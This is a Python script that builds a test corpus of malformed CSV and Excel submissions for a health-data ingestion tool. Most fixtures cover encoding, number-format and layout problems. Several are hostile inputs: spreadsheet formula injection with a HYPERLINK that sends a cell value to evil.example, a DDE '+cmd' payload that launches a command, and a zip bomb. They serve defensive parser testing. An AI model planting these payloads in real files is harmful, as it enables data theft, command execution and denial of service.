"""Regenerate the malformed-submission corpus in this folder.

Run by hand (``.venv/bin/python tests/corpus/make_corpus.py``) when the catalogue or the
template changes; the files are committed.  What each file should produce is written by hand
in ``expected.yaml`` (not generated), so the test compares the code with an independent
statement of the expected messages.
"""
from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
HEAD = "indicator,year,area,sex,value,numerator,denominator\n"


def w(name: str, text: str, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(text.encode(encoding))


def filled_template(name: str, fill: dict[tuple[str, str, str], dict[str, object]]) -> None:
    """A 卫健局 2024 template with some input cells filled: fill[(indicator, area, sex)] = {col: value}."""
    from fzanalysis.panel import template  # run as a script: the package is imported on use

    path = HERE / name
    template("卫健局", 2024, path)
    wb = openpyxl.load_workbook(path)
    ws = wb["数据填报"]
    cols = {c.value: c.column for c in ws[1]}
    for r in range(3, ws.max_row + 1):
        key = tuple(str(ws.cell(r, cols[c]).value) for c in ("indicator", "area", "sex"))
        for col, v in fill.get(key, {}).items():
            ws.cell(r, cols[col]).value = v
    wb.save(path)


def main() -> None:
    w("empty.csv", "")
    w("blank_lines.csv", "\n   \n\n")
    w("csv_renamed.xlsx", HEAD + "health.maternal_mortality,2024,440117,T,7.1,,\n")
    (HERE / "old_excel.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    (HERE / "zip_not_workbook.xlsx").write_bytes(buf.getvalue())
    (HERE / "undecodable.csv").write_bytes(b"indicator,year,value\n\x80\x81,2024,\xff\n")
    # GBK (Excel on Chinese Windows), Chinese headings and area names; one unknown town
    w("gbk.csv", "指标代码,年份,地区,性别,数值\n"
                 "health.cervical_cancer_screening,2024,从化区,合计,55.2\n"
                 "health.cervical_cancer_screening,2024,新城镇,合计,50.1\n"
                 "health.cervical_cancer_screening,2024,吕田镇,合计,41.0\n", "gbk")
    # UTF-8 with BOM; the second data row is negative
    w("bom.csv", HEAD + "health.maternal_mortality,2023,440117,T,8.2,,\n"
                        "health.maternal_mortality,2024,440117,T,-3,,\n", "utf-8-sig")
    w("utf16.csv", "indicator\tyear\tvalue\nhealth.hiv_testing_pregnant\t2024\t98.9%\n", "utf-16")
    w("percent_sign.csv", HEAD + "health.hiv_testing_pregnant,2024,440117,T,96.5%,,\n"
                                 "health.life_expectancy,2024,440117,F,83.1%,,\n")
    w("fullwidth.csv", HEAD + "health.hiv_testing_pregnant,２０２４,440117,T,９８．６,,\n"
                              "health.syphilis_testing_pregnant,2024,440117,T,１２０,,\n")
    w("thousands.csv", HEAD + 'health.cervical_cancer_screening,2024,440117,T,,"12,345","10,000"\n'
                              'health.cervical_cancer_screening,2023,440117,T,61.73,"12,345","20,000"\n')
    w("fraction.csv", HEAD + "health.cervical_cancer_screening,2023,440117,T,0.52,,\n"
                             "health.cervical_cancer_screening,2024,440117,T,0.55,,\n")
    w("fraction_numden.csv", HEAD + "health.maternal_system_management,2024,440117,T,0.9,900,1000\n"
                                    "health.premarital_checkup,2024,440117,T,60,600,1000\n")
    w("out_of_bounds.csv", HEAD + "health.physical_fitness,2024,440117,T,105,,\n")
    w("negative_counts.csv", HEAD + "health.maternal_mortality,2024,440117,T,0,-1,7000\n")
    w("duplicate_keys.csv", HEAD + "health.anaemia_pregnant,2024,440117104,T,11.2,,\n"
                                   "health.anaemia_pregnant,2024,良口镇,合计,12.4,,\n"
                                   "health.anaemia_pregnant,2024,440117107,T,9.0,,\n"
                                   "health.anaemia_pregnant,2024,吕田,T,9.0,,\n")
    w("bad_years.csv", HEAD + "health.hiv_testing_pregnant,2024.5,440117,T,98,,\n"
                              "health.hiv_testing_pregnant,1999,440117,T,98,,\n"
                              "health.hiv_testing_pregnant,二〇二四,440117,T,98,,\n"
                              "health.hiv_testing_pregnant,2024年,440117,T,98,,\n")
    w("missing_column.csv", "indicator,year,area,sex\nhealth.hiv_testing_pregnant,2024,440117,T\n")
    w("unknown_indicator.csv", HEAD + "health.maternal_mortallity,2024,440117,T,7,,\n"
                                      "妇女人均预期寿命,2024,440117,F,83.0,,\n")
    w("unknown_sex.csv", HEAD + "health.premarital_checkup,2024,440117,X,55,,\n")
    w("not_a_number.csv", HEAD + "health.two_cancers_knowledge,2024,440117,T,约96,,\n")
    w("no_header.csv", "从化区2024年数据\n一些说明文字\n")
    w("header_only.csv", HEAD)
    w("value_numden_mismatch.csv", HEAD + "health.cervical_cancer_screening,2024,440117,T,50,300,1000\n")
    w("missing_marks.csv", HEAD + "health.hiv_testing_pregnant,2021,440117,T,—,,\n"
                                  "health.hiv_testing_pregnant,2022,440117,T,/,,\n"
                                  "health.hiv_testing_pregnant,2023,440117,T,无,,\n"
                                  "health.hiv_testing_pregnant,2024,440117,T,98.7,,\n")
    w("sex_not_disaggregated.csv", HEAD + "health.maternal_mortality,2024,440117,F,7.0,,\n")
    years = [(2015, 60.0), (2016, 61.0), (2017, 62.1), (2018, 63.0), (2019, 64.0), (2020, 65.1), (2021, 30.0)]
    w("jump.csv", HEAD + "".join(f"health.elderly_health_management,{y},440117,T,{v},,\n" for y, v in years))
    towns = ["440117001", "440117002", "440117003", "440117103", "440117104", "440117107",
             "440117111", "440117113"]
    rows = [f"health.hospital_delivery,2024,{t},T,99.0,990,1000\n" for t in towns]
    w("district_inconsistent.csv", HEAD + "health.hospital_delivery,2024,440117,T,95.0,7600,8000\n" + "".join(rows))
    w("semicolon_extra_cells.csv", "indicator;year;value\nhealth.hiv_testing_pregnant;2024;98.1;oops\n")
    w("unknown_area_code.csv", HEAD + "health.two_cancers_knowledge,2024,440117999,T,91,,\n")

    # Excel: filled templates and a tidy sheet with a percent-formatted cell
    filled_template("template_num_gt_den.xlsx", {
        ("health.cervical_cancer_screening", "440117", "T"): {"value": 60.0, "numerator": 600, "denominator": 1000},
        ("health.cervical_cancer_screening", "440117107", "T"): {"numerator": 1200, "denominator": 1000},
    })
    filled_template("template_fraction.xlsx", {
        ("health.maternal_system_management", "440117", "T"): {"value": 0.91},
        ("health.maternal_system_management", "440117104", "T"): {"value": 0.85},
    })
    filled_template("template_ok.xlsx", {
        ("health.life_expectancy", "440117", "F"): {"value": "８３．２"},
        ("health.hiv_testing_pregnant", "440117", "T"): {"value": "98.9%", "numerator": 7120, "denominator": 7200},
    })
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    ws.append(["指标代码", "年份", "地区", "数值"])
    ws.append(["health.hiv_testing_pregnant", 2024, "从化区", 0.989])
    ws["D2"].number_format = "0.0%"
    ws.append(["health.hiv_testing_pregnant", 2024, "街口", 1.5])
    ws["D3"].number_format = "0.0%"
    wb.save(HERE / "xlsx_percent_format.xlsx")
    # a formula written by a script and never calculated: no saved result to read
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["indicator", "year", "value", "numerator", "denominator"])
    ws.append(["health.cervical_cancer_screening", 2024, "=D2/E2*100", 600, 1000])
    ws.append(["health.cervical_cancer_screening", 2023, 55.0, None, None])
    wb.save(HERE / "formula_uncalculated.xlsx")


def sheet(name: str, rows: list[list[object]], *, formats: dict[str, str] | None = None,
          edit: object = None) -> None:
    """A one-sheet workbook: ``rows`` from A1, number ``formats`` by cell, then ``edit(ws)``."""
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    for ref, fmt in (formats or {}).items():
        ws[ref].number_format = fmt
    if edit is not None:
        edit(ws)  # type: ignore[operator]
    wb.save(HERE / name)


CCS = "health.cervical_cancer_screening"   # percent, by area, target 70
MSM = "health.maternal_system_management"  # percent, by area, target 90
HIV = "health.hiv_mother_to_child_transmission"  # percent, target < 2
PEN = "social_security.pension_benefit_female"   # yuan per month, by sex
TOWNS = ["440117001", "440117002", "440117003", "440117103", "440117104", "440117107", "440117111", "440117113"]
XHEAD = ["indicator", "year", "area", "sex", "value", "numerator", "denominator", "source", "note"]


def extra() -> None:
    """The hostile and messy files of issue 12 (each described in expected.yaml)."""
    # fractions among percents: the district 98.7, two towns typed as fractions
    w("fraction_some_towns.csv", HEAD + f"{MSM},2024,440117,T,98.7,,\n"
      + "".join(f"{MSM},2024,{t},T,{v},,\n" for t, v in zip(TOWNS, [98.1, 0.98, 97.9, 0.99, 98.4, 99.0, 98.8, 98.2])))
    # a single 0.962 among 93-95 %
    w("fraction_single.csv", HEAD + "".join(f"{MSM},2024,{t},T,{v},,\n" for t, v in
                                          zip(TOWNS, [93.1, 94.2, 0.962, 95.0, 93.8, 94.4, 94.9, 93.5])))
    # Excel formats with a literal %: 0.5 shown as 0.50% is 0.5 %, not 50 %
    sheet("percent_literal_quoted.xlsx", [XHEAD, [HIV, 2024, "440117", "T", 0.5]], formats={"E2": '0.00"%"'})
    sheet("percent_literal_escaped.xlsx", [XHEAD, [HIV, 2024, "440117", "T", 0.5]], formats={"E2": "0.00\\%"})
    sheet("percent_real_format.xlsx", [XHEAD, [HIV, 2024, "440117", "T", 0.005]], formats={"E2": "0.0%"})
    # 1e308 yuan a month; inf and nan typed as text
    w("huge_value.csv", HEAD + f"{PEN},2024,440117,F,1e308,,\n{PEN},2023,440117,F,2100,,\n")
    w("infinite_text.csv", HEAD + f"{PEN},2024,440117,F,inf,,\n{PEN},2023,440117,F,NaN,,\n")
    w("implausible_digits.csv", HEAD + f"{PEN},2024,440117,F,21000000,,\n")
    # a hidden row keeps last year's value; a hidden sheet holds a table
    def hide_row(ws: object) -> None:
        ws.row_dimensions[3].hidden = True  # type: ignore[attr-defined]
    sheet("hidden_row.xlsx", [XHEAD, [MSM, 2024, "440117", "T", 95.1], [MSM, 2024, "440117", "T", 91.0],
                              [CCS, 2024, "440117", "T", 66.0]], edit=hide_row)
    wb = openpyxl.Workbook()
    wb.active.append(XHEAD)
    wb.active.append([MSM, 2024, "440117", "T", 95.1])
    hs = wb.create_sheet("旧数据")
    hs.append(XHEAD)
    hs.append([MSM, 2023, "440117", "T", 90.0])
    hs.sheet_state = "hidden"
    wb.save(HERE / "hidden_sheet.xlsx")
    # header only, in a workbook too
    sheet("header_only.xlsx", [XHEAD])
    # an unclosed quote in row 3 of 14 rows
    rows = [f"{CCS},{2011 + i},440117,T,{60 + i},," for i in range(14)]
    rows[1] = f'{CCS},2012,440117,T,61,,"unclosed note'
    w("unclosed_quote.csv", "indicator,year,area,sex,value,numerator,denominator,note\n" + "\n".join(rows) + "\n")
    # a zip bomb: one sheet part of 50 MB of blanks compressed to ~50 KB
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", " " * 50_000_000)
    (HERE / "zip_bomb.xlsx").write_bytes(buf.getvalue())
    # formula injection in source and note
    w("formula_injection.csv", "indicator,year,area,sex,value,source,note\n"
      f'{MSM},2024,440117,T,95.1,"=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",ok\n'
      f"{MSM},2023,440117,T,94.0,卫健局,+cmd|' /C calc'!A0\n"
      f"{MSM},2022,440117,T,93.2,@SUM(1+1),-2+3\n")
    sheet("formula_injection.xlsx", [XHEAD, [MSM, 2024, "440117", "T", 95.1, None, None, "卫健局", "+cmd|' /C calc'!A0"]],
          edit=lambda ws: setattr(ws["H2"], "data_type", "s"))
    # a year typed as a date
    import datetime as _dt
    sheet("year_as_date.xlsx", [XHEAD, [MSM, _dt.datetime(2024, 1, 1), "440117", "T", 95.1]],
          formats={"B2": "yyyy-mm-dd"})
    sheet("year_as_text_with_suffix.xlsx", [XHEAD, [MSM, "2024年", "440117", "T", 95.1]])
    # password-protected workbook: an OLE2 container with an EncryptedPackage stream
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    ole += "EncryptionInfo".encode("utf-16-le") + b"\x00" * 32 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 512
    (HERE / "encrypted.xlsx").write_bytes(ole)
    (HERE / "encrypted_named.xls").write_bytes(ole)
    (HERE / "old_format.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    (HERE / "encrypted_as_csv.csv").write_bytes(ole)
    # a truncated workbook: the first 60 % of a good one
    good = (HERE / "template_ok.xlsx").read_bytes()
    (HERE / "truncated.xlsx").write_bytes(good[: int(len(good) * 0.6)])
    # merged cells over the indicator column
    def merge(ws: object) -> None:
        ws.merge_cells("A2:A4")  # type: ignore[attr-defined]
    sheet("merged_cells.xlsx", [XHEAD, [MSM, 2024, "440117001", "T", 95.1], [None, 2024, "440117002", "T", 94.0],
                                [None, 2024, "440117003", "T", 93.0]], edit=merge)
    # unknown columns: 30 (warnings capped at 20 + one summary) and 300 (over max_columns)
    w("many_unknown_columns.csv", ",".join(["indicator", "year", "value"] + [f"extra{i}" for i in range(30)]) + "\n"
      + ",".join([MSM, "2024", "95.1"] + [""] * 30) + "\n")
    w("too_many_columns.csv", ",".join(["indicator", "year", "value"] + [f"x{i}" for i in range(300)]) + "\n"
      + f"{MSM},2024,95.1\n")
    # tab-separated with commas in notes; semicolons with a decimal comma would be wrong: plain semicolons
    w("tsv_commas_in_notes.csv", "indicator\tyear\tarea\tsex\tvalue\tnote\n"
      f"{MSM}\t2024\t440117\tT\t95.1\t含流动人口, 口径同上年, 已复核\n"
      f"{MSM}\t2023\t440117\tT\t94.0\t数据来源: 妇幼年报, 2023\n")
    w("tab_separated.tsv", f"indicator\tyear\tvalue\n{HIV}\t2024\t0.3\n")
    w("semicolon.csv", f"indicator;year;area;sex;value\n{MSM};2024;440117;T;95.1\n")
    w("fullwidth_comma.csv", f"indicator，year，value\n{HIV}，2024，0.3\n")
    w("pipe.csv", f"indicator|year|value\n{HIV}|2024|0.3\n")
    # one GBK cell in a UTF-8 file
    data = ("指标代码,年份,地区,性别,数值,备注\n"
            f"{MSM},2024,从化区,合计,95.1,已复核\n").encode()
    data += f"{MSM},2023,从化区,合计,94.0,".encode() + "手工录入".encode("gbk") + b"\n"
    data += f"{MSM},2022,从化区,合计,93.0,好\n".encode()
    (HERE / "gbk_cell_in_utf8.csv").write_bytes(data)
    # two files of one batch that disagree on a key
    w("batch_a.csv", HEAD + f"{MSM},2024,440117,T,95.1,,\n{MSM},2023,440117,T,94.0,,\n")
    w("batch_b.csv", HEAD + f"{MSM},2024,440117,T,96.3,,\n")
    # CRLF line ends, trailing blanks and a title line above the header
    w("crlf.csv", (HEAD + f"{MSM},2024,440117,T,95.1,,\n").replace("\n", "\r\n"))
    w("title_line.csv", "从化区妇女发展规划监测数据（2024年）,,,,\n" + HEAD + f"{MSM},2024,440117,T,95.1,,\n")
    w("trailing_blank_rows.csv", HEAD + f"{MSM},2024,440117,T,95.1,,\n" + ",,,,,,\n" * 5)
    # Chinese names instead of codes, 女/男, blank area = district
    w("chinese_names.csv", "指标代码,年份,地区,性别,数值\n"
                           f"{PEN},2024,,女,2100\n{PEN},2024,从化区,男,2300\n")
    w("sex_words.csv", HEAD + f"{PEN},2024,440117,女性,2100,,\n{PEN},2024,440117,男性,2300,,\n")
    # numbers written as Chinese clerks do
    w("per_mille_sign.csv", HEAD + "health.maternal_mortality,2024,440117,T,5‰,,\n")
    w("value_with_unit_text.csv", HEAD + f"{PEN},2024,440117,F,2100元,,\n")
    w("spaces_in_numbers.csv", HEAD + f"{MSM},2024,440117,T, 95.1 ,,\n")
    w("negative_percent.csv", HEAD + f"{MSM},2024,440117,T,-5,,\n")
    w("year_float.csv", HEAD + f"{MSM},2024.0,440117,T,95.1,,\n{MSM},2024.5,440117,T,95.1,,\n")
    w("year_out_of_range.csv", HEAD + f"{MSM},2031,440117,T,95.1,,\n")
    w("empty_indicator.csv", HEAD + ",2024,440117,T,95.1,,\n")
    w("denominator_zero.csv", HEAD + f"{MSM},2024,440117,T,,5,0\n")
    w("count_as_rate.csv", HEAD + f"{MSM},2024,440117,T,95,95%,100\n")
    w("value_from_counts.csv", HEAD + f"{MSM},2024,440117,T,,951,1000\n")
    w("only_missing_marks.csv", HEAD + f"{MSM},2024,440117,T,—,,\n{MSM},2023,440117,T,/,,\n")
    w("duplicate_heading.csv", "indicator,year,value,数值\n" + f"{MSM},2024,95.1,95.2\n")
    w("nul_bytes.csv", HEAD + f"{MSM},2024,440117,T,95.1,,\n\x00\x00")
    w("unsupported.ods", "not read")
    w("repeated_header.csv", HEAD + HEAD + f"{MSM},2024,440117,T,95.1,,\n")
    w("district_consistent.csv", HEAD + f"{MSM},2024,440117,T,95,950,1000\n"
      + "".join(f"{MSM},2024,{t},T,95,95,100\n" for t in TOWNS[:-1]) + f"{MSM},2024,{TOWNS[-1]},T,95,152,160\n")


def probe() -> None:
    """Files found by probing as a clerk (2026-12): each was read wrongly or raised at ingest."""
    w("space_inside_number.csv", HEAD + f"{MSM},2024,440117,T,9 5.1,,\n{MSM},2024,440117001,T,95.1 %,,\n")
    w("blank_heading.csv", "indicator,year,area,sex,value,,denominator\n" + f"{MSM},2024,440117,T,95.1,951,1000\n")
    w("duplicate_counts.csv", HEAD + f"{MSM},2024,440117,T,95,95,100\n{MSM},2024,440117,T,95,190,200\n")
    w("zero_counts.csv", HEAD + f"{MSM},2024,440117,T,0,0,0\n")


if __name__ == "__main__":
    main()
    extra()
    probe()
